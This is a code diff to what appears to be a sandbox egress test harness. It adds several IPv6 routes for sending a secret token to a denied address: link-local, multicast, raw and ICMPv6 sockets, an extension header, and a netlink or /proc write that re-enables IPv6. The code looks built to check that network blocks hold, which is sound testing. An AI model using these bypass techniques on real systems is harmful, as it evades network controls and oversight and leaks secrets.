@@ -19,6 +19,7 @@ import threading
 import time
 
 DENIED, PORT, SECRET = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+DENIED6, LINK = "2606:2800:220:1::2", "eth0"
 libc = ctypes.CDLL(None, use_errno=True)
 MAPPED = "::ffff:" + DENIED
 attempts = []
@@ -73,7 +74,53 @@ def _(token):
 
 @attempt(1, "tcp6")
 def _(token):
-    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), "2606:2800:220:1::2", token)
+    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), DENIED6, token)
+
+
+def on_link(address):
+    return (address, PORT, 0, socket.if_nametoindex(LINK))
+
+
+@attempt(1, "tcp6-on-the-link")
+def _(token):
+    s = make(socket.AF_INET6, socket.SOCK_STREAM)
+    s.connect(on_link("fe80::1"))
+    s.sendall(token)
+
+
+@attempt(2, "udp6-sendto")
+def _(token):
+    make(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (DENIED6, PORT))
+
+
+@attempt(2, "udp6-on-the-link")
+def _(token):
+    make(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, on_link("fe80::1"))
+
+
+@attempt(8, "ping6-socket")
+def _(token):
+    make(socket.AF_INET6, socket.SOCK_DGRAM, 58).sendto(b"\x80\0\0\0\0\1\0\1" + token, on_link("ff02::1"))
+
+
+@attempt(9, "raw6-udp")
+def _(token):
+    make(socket.AF_INET6, socket.SOCK_RAW, 17).sendto(
+        struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED6, 0))
+
+
+@attempt(11, "ipv6-extension-header")
+def _(token):
+    s = make(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(41, 59, b"\x11\0\1\4\0\0\0\0")  # IPV6_DSTOPTS
+    s.sendto(token, on_link("ff02::1"))
+
+
+@attempt(19, "multicast6")
+def _(token):
+    s = make(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(41, 17, struct.pack("i", socket.if_nametoindex(LINK)))  # IPV6_MULTICAST_IF
+    s.sendto(token, ("ff02::1", PORT))
 
 
 @attempt(2, "udp-sendto")
@@ -212,6 +259,18 @@ def _(token):
     name = struct.pack("<HH", 9, 3) + b"dum0\0" + b"\0" * 3
     info = struct.pack("<HH", 4 + 12, 18) + struct.pack("<HH", 10, 1) + b"dummy\0" + b"\0" * 2
     netlink(16, struct.pack("<BxHiII", 0, 0, 0, 0, 0) + name + info)
+
+
+@attempt(12, "turning-ipv6-on")
+def _(token):
+    """Both ways to an address on its link; one is enough."""
+    body = struct.pack("<BBBBI", 10, 64, 0, 0, socket.if_nametoindex(LINK)) + struct.pack("<HH", 20, 2) \
+        + socket.inet_pton(socket.AF_INET6, "fe80::2")
+    try:
+        netlink(20, body)  # RTM_NEWADDR
+    except OSError:
+        with open(f"/proc/sys/net/ipv6/conf/{LINK}/disable_ipv6", "w") as f:
+            f.write("0")
 
 
 @attempt(13, "other-source-address")
